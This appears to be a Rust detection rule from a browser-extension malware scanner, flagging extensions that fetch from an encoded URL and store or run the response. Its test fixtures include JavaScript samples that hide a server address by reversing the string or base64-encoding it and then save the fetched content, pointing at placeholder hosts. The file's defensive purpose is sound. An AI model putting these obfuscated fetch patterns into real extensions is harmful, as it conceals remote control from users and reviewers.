//! `extension-hides-its-server`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "extension-hides-its-server",
    description: "The extension contacts a server at an encoded URL, and stores or runs the response.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::CodedAsked]), one(&[Atom::ExtensionApi])],
    within: 600,
    only_if: Some(keeps),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"chrome.runtime.onMessage.addListener(f);function chk(){var a=new XMLHttpRequest;a.onreadystatechange=function(){4==a.readyState&&(localStorage.updated=a.responseText)};a.open('GET','sj.gol/gol/elpmaxe.noitomorp//:ptth'.split('').reverse().join(''),!0);a.send(null)}"#,
            r#"chrome.alarms.create('a',{periodInMinutes:60});chrome.alarms.onAlarm.addListener(()=>{fetch(atob('aHR0cHM6Ly9yZW1vdGUuZXhhbXBsZS9jb25maWc=')).then(r=>r.json()).then(c=>chrome.storage.local.set({rules:c}))})"#,
        ],
        without: &[
            r#"chrome.alarms.create('a',{periodInMinutes:60});chrome.alarms.onAlarm.addListener(()=>{fetch('https://remote.example/config').then(r=>r.json()).then(c=>chrome.storage.local.set({rules:c}))})"#,
            r#"chrome.runtime.onInstalled.addListener(()=>{fetch(atob('L2NvbmZpZy5qc29u')).then(r=>r.json()).then(c=>chrome.storage.local.set({rules:c}))})"#,
        ],
    },
};

fn keeps(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 60);
    near.has_fact(&[Atom::AnswerBody, Atom::AnswerHanded])
        || near.has_word(&["responseText"]) && near.has_word(&["localStorage", "storage"])
}
